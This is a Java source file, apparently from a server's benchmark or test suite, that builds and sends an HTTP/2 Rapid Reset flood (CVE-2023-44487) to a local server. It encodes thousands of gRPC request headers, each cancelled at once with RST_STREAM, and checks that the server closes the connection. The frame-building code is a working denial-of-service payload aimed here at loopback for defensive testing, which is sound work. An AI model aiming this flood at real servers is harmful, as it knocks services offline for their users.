package virdi.bench;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.DefaultHttp2HeadersEncoder;
import io.netty.handler.codec.http2.Http2Exception;
import io.netty.handler.codec.http2.Http2Headers;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;

/**
 * A connection that opens and resets streams until it is cut off (CVE-2023-44487), as an attacker sends it: made
 * beforehand and written at once, so that it takes next to nothing from the machine which all share.
 */
final class ResetFlood {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;

    private final byte[] bytes;

    /** @param resets how many, at most; more than any server should bear */
    ResetFlood(int resets) throws Http2Exception {
        ByteBuf flood = Unpooled.buffer();
        var encoder = new DefaultHttp2HeadersEncoder();
        flood.writeBytes(PREFACE);
        head(flood, 0, SETTINGS, 0, 0);
        Http2Headers call = new DefaultHttp2Headers()
                .method("POST")
                .scheme("http")
                .path("/Virdi/Consume")
                .authority("virdi")
                .add("content-type", "application/grpc")
                .add("te", "trailers")
                .add("client-id", "offender");
        for (int stream = 1; stream < 2 * resets; stream += 2) {
            ByteBuf block = Unpooled.buffer();
            encoder.encodeHeaders(stream, call, block);
            head(flood, block.readableBytes(), HEADERS, END_HEADERS, stream);
            flood.writeBytes(block);
            head(flood, Integer.BYTES, RST_STREAM, 0, stream);
            flood.writeInt(CANCEL);
        }
        bytes = new byte[flood.readableBytes()];
        flood.readBytes(bytes);
    }

    private static void head(ByteBuf flood, int length, int type, int flags, int stream) {
        flood.writeMedium(length).writeByte(type).writeByte(flags).writeInt(stream);
    }

    /** Connects, floods, and returns when the server has closed the connection. */
    void run(int port) throws IOException {
        try (var socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.getOutputStream().write(bytes);
            byte[] said = new byte[4096];
            for (int read = 0; read >= 0; read = socket.getInputStream().read(said)) {
                // What it says is of no interest, only that it ends.
            }
        } catch (SocketException cut) {
            // Cut off while it was still writing, or with something left unread.
        }
    }
}
